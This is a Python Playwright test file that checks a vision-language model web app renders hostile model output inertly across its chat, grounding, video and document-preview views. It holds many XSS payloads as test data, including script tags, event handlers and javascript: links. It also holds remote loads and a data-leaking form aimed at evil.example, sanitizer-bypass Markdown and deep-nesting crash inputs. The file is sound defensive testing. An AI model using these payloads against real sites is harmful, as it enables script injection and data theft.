"""Tier 3, real browser: hostile model output travels the real model path (scripted checkpoints) into every place
the page shows model text — chat Markdown, grounding labels (legend, table), video answer chips and spans,
the document preview — and no script runs, no dialog opens and no request leaves for another host."""

from __future__ import annotations

from PIL import Image

from tests.browser import Watch, open_tab
from tests.conftest import ROOT
from tests.test_docparse_task import HOSTILE_HTML

EVIL = "http://evil.example"
# What a planted instruction could make a model write into a chat answer.
CHAT_ANSWER = f"""Here is the **answer** and $a<b$.

<script>window.__pwned = 1</script>
<img src=x onerror="window.__pwned = 2">
<img src="{EVIL}/raw-img.png">
[click me](javascript:window.__pwned=3) and [also](jav&#97;script:window.__pwned=4)
![pixel]({EVIL}/md-image.png) ![ref image][px]
<iframe src="{EVIL}/frame"></iframe>
<svg onload="window.__pwned = 5"><image href="{EVIL}/svg.png"/></svg>
<div style="background:url({EVIL}/css.png)">styled</div>
<a href="{EVIL}/ok">a plain link is fine</a>
<details open ontoggle="window.__pwned = 6"><summary>x</summary></details>
$\\href{{javascript:window.__pwned=7}}{{tex link}}$ and $\\includegraphics{{{EVIL}/tex.png}}$

[px]: {EVIL}/ref.png
END-OF-ANSWER"""
LABEL = f'<img src="{EVIL}/label.png" onerror="window.__pwned=8"><script>window.__pwned=9</script>'
GROUND_ANSWER = (f'```json\n[{{"bbox_2d": [100, 100, 400, 300], "label": {LABEL!r}}},\n'
                 f' {{"bbox_2d": [500, 100, 800, 300], "label": "<b onmouseover=window.__pwned=10>bold</b>"}}]\n```'
                 ).replace("'", '"')
VIDEO_ANSWER = ('```json\n[{"start_time": "00:01.00", "end_time": "00:03.00", "description": '
                f'"<img src=\\"{EVIL}/chapter.png\\" onerror=\\"window.__pwned=11\\">intro"}},\n'
                '{"start_time": "00:04.00", "end_time": "00:06.00", "description": '
                '"<script>window.__pwned=12</script>blue"}]\n```\n'
                f'At 00:04.00 <img src="{EVIL}/chip.png" onerror="window.__pwned=13"> it turns blue.')


def _assert_inert(page, watch: Watch) -> None:
    page.wait_for_timeout(500)  # anything that would fire (onerror, onload, a fetch) has done so by now
    assert page.evaluate("window.__pwned") is None
    assert watch.dialogs == []
    assert watch.remote == [], f"requests left the machine: {watch.remote}"
    assert page.title() == "QVL Studio"


def test_chat_markdown_is_inert(make_session, launch_app, page):
    url = launch_app(make_session("qwen2_5_vl", CHAT_ANSWER)).local_url
    watch = open_tab(page, url)
    page.fill("#chat-input textarea", "Summarise the document")
    page.keyboard.press("Enter")
    page.wait_for_selector('[data-testid="bot"] >> text=tokens', timeout=120_000)  # the stats footer: done
    bot = page.locator('[data-testid="bot"]').last
    text = bot.inner_text()
    assert "END-OF-ANSWER" in text and "answer" in text
    assert "<script>" in text and "<iframe" in text  # raw HTML is shown as text, not built
    assert bot.locator("strong").first.inner_text() == "answer"  # Markdown itself still renders
    assert bot.locator("img, iframe, svg image, script, details").count() == 0
    hrefs = bot.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href') || '')")
    assert not [h for h in hrefs if h.strip().lower().startswith(("javascript", "data", "vbscript"))]
    _assert_inert(page, watch)


def test_grounding_labels_are_inert(make_session, launch_app, tmp_path, page):
    photo = tmp_path / "photo.png"
    Image.new("RGB", (1000, 500), (230, 230, 230)).save(photo)
    url = launch_app(make_session("qwen2_5_vl", GROUND_ANSWER)).local_url
    watch = open_tab(page, url, "Grounding", "#ground-image")
    page.set_input_files("#ground-image input[type=file]", str(photo))
    page.wait_for_selector("text=The model will see this image as")
    page.fill("#ground-prompt textarea", "Outline everything")
    page.click("#ground-run")
    page.wait_for_selector("#ground-summary >> text=2 found")
    # The labels are drawn into the image's pixels (no legend) and shown as text in the table.
    assert "<script>" in page.locator("#ground-table").inner_text()
    assert page.locator("#ground-annotated img").count() == 1
    for where in ("#ground-annotated", "#ground-table", "#ground-summary"):
        assert page.locator(f"{where} script, {where} b, {where} img[src*='evil']").count() == 0, where
    _assert_inert(page, watch)


def test_video_answer_and_spans_are_inert(make_session, launch_app, page):
    url = launch_app(make_session("qwen2_5_vl", VIDEO_ANSWER)).local_url
    watch = open_tab(page, url, "Video QA", "#video-player")
    page.set_input_files("#video-player input[type=file]", str(ROOT / "assets" / "clock.mp4"))
    page.wait_for_selector("#video-player video")
    page.click("#video-run")
    page.wait_for_selector("#video-summary >> text=time span")
    answer = page.locator("#video-answer")
    assert answer.locator(".qvl-chip").count() >= 2  # our chips are there...
    assert answer.locator("img, script").count() == 0 and "<img" in answer.inner_text()  # ...model HTML is text
    assert page.locator("#video-timeline .qvl-seg").count() == 2
    assert page.locator("#video-gallery img").count() >= 2
    _assert_inert(page, watch)


def test_document_preview_is_inert(make_session, launch_app, tmp_path, page):
    """The sanitized, sandboxed preview: nothing runs and nothing remote loads (every host, not one name)."""
    scan = tmp_path / "invoice.png"
    Image.new("RGB", (600, 400), "white").save(scan)
    url = launch_app(make_session("qwen2_5_vl", HOSTILE_HTML)).local_url
    watch = open_tab(page, url, "Documents", "#doc-files")
    page.set_input_files("#doc-files input[type=file]", str(scan))
    page.wait_for_selector("#doc-files >> text=invoice.png")
    page.click("#doc-run")
    page.wait_for_selector("#doc-status >> text=Done")
    assert "Invoice" in page.frame_locator("#doc-preview iframe").locator("body").inner_text()
    _assert_inert(page, watch)


# Where the old regex and CommonMark disagreed about code (issue 16): each hides live HTML from a pattern of our own.
BYPASS_ANSWER = f"""Bypasses follow.

\\`<img src="{EVIL}/escaped-tick.png">`

``<picture><source srcset="{EVIL}/srcset.png"><img src="{EVIL}/pic.png"></picture>`

```x`y
<div id="overlay" style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>
```

    ```
<form id="leak" action="{EVIL}/form"><input name="q" value="secret"><button id="send">send</button></form>
<video autoplay src="{EVIL}/v.mp4"></video><audio autoplay src="{EVIL}/a.mp3"></audio>
<svg><image href="{EVIL}/svg.png"/></svg><div style="background:url({EVIL}/css.png)">css</div>
```

END-OF-ANSWER"""
# Nesting that crashed the tab (KaTeX) or blanked the answer (the Markdown renderer out of stack).
DEEP_ANSWER = ("$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "$\n\n" + ">" * 5000 + " DEEP-QUOTE\n\n"
               + "- " * 2000 + "DEEP-LIST\n\n" + "*" * 2500 + "DEEP-STARS" + "*" * 2500 + "\n\nEND-OF-ANSWER")


def _ask(page, url: str, tokens: int | None = None):
    watch = open_tab(page, url)
    if tokens:  # more than the default answer length
        # The Chat tab's closed accordion (not the footer's "Settings" link, which may be on the page first).
        settings = page.locator("#chat-settings")
        settings.get_by_text("Settings", exact=True).first.click()
        settings.get_by_label("number input for Max new tokens").first.fill(str(tokens))
        page.keyboard.press("Tab")
    page.fill("#chat-input textarea", "Answer")
    page.keyboard.press("Enter")
    page.wait_for_selector('[data-testid="bot"] >> text=tokens', timeout=300_000)  # the stats footer: done
    return watch, page.locator('[data-testid="bot"]').last


def test_chat_markdown_bypasses_are_inert(make_session, launch_app, page):
    """Bug: an escaped backtick, unequal backtick runs, a backtick in a fence's info string and a fence indented
    four spaces let raw HTML through: remote images, srcset, an overlay, a form that sent ?q=secret away."""
    watch, bot = _ask(page, launch_app(make_session("qwen2_5_vl", BYPASS_ANSWER)).local_url)
    assert "END-OF-ANSWER" in bot.inner_text() and "srcset=" in bot.inner_text()  # shown as text
    assert bot.locator("img, picture, video, audio, svg image, form, input, #overlay, [style]").count() == 0
    assert page.locator("#overlay, form#leak").count() == 0
    _assert_inert(page, watch)


def _macro(i: int) -> str:
    """A TeX macro name of letters only (TeX names take no digits): qa, qb, ..., qba, ..."""
    name = ""
    while True:
        name, i = chr(97 + i % 26) + name, i // 26
        if not i:
            return "\\q" + name


# \qa is \frac{1}{\qb}, \qb is \frac{1}{\qc}, ...: 200 levels that count as 2.
MACRO_CHAIN = "".join(f"\\def{_macro(i)}{{\\frac{{1}}{{{_macro(i + 1)}}}}}" for i in range(200)) + \
    f"\\def{_macro(200)}{{x}}{_macro(0)}"
# The second red team: where the browser's renderer (marked, its mermaid extension, inspect.cleandoc, its formula
# extraction) reads an answer otherwise than CommonMark. The answer opens indented (cleandoc dedents it).
RENDERER_ANSWER = f"""    <img id="dedent" src="{EVIL}/dedent.png">

```mermaid
<img id="mermaid" src="{EVIL}/mermaid.png">
```

```
x
```~
<video id="closer" autoplay src="{EVIL}/closer.mp4"></video>
```

a `b
:-
c <img id="table" src="{EVIL}/table.png"> `

$""" + MACRO_CHAIN + """$

a```mermaid
graph TD
A["&lt;img id=inmermaid src=""" + EVIL + """/inmermaid.png&gt;"]```

&#36;\\def\\x{\\frac{1}{2}}\\x&#36; costs 5$ and $\\rule{3000em}{3000em}$

END-OF-ANSWER"""


def test_chat_renderer_rule_bypasses_are_inert(make_session, launch_app, page):
    """Bug: a mermaid fence, a fence closed at ```~ by marked alone, a table without pipes splitting a code span,
    an answer dedented by Gradio after we sanitized it, and a \\def chain as deep as a crashing formula."""
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    watch, bot = _ask(page, launch_app(make_session("qwen2_5_vl", RENDERER_ANSWER)).local_url, tokens=20_000)
    assert "END-OF-ANSWER" in bot.inner_text()
    assert bot.locator("img, video, #dedent, #mermaid, #closer, #table, .mermaid, #inmermaid").count() == 0
    assert bot.locator(".katex .rule").count() == 0  # no 3000em box over the page
    assert not errors and page.evaluate("1 + 1") == 2  # the tab is alive
    _assert_inert(page, watch)


def test_chat_survives_deep_nesting(make_session, launch_app, page):
    """Bug: a formula nested 200 deep crashed the tab; a 5,000-level quote, a 2,000-level list or 5,000 asterisks
    blanked the answer with "Maximum call stack size exceeded"."""
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    watch, bot = _ask(page, launch_app(make_session("qwen2_5_vl", DEEP_ANSWER)).local_url, tokens=20_000)
    text = bot.inner_text()
    for marker in ("DEEP-QUOTE", "DEEP-LIST", "DEEP-STARS", "END-OF-ANSWER"):
        assert marker in text, marker
    assert not [e for e in errors if "call stack" in e], errors
    assert page.evaluate("1 + 1") == 2  # the tab is alive
    _assert_inert(page, watch)
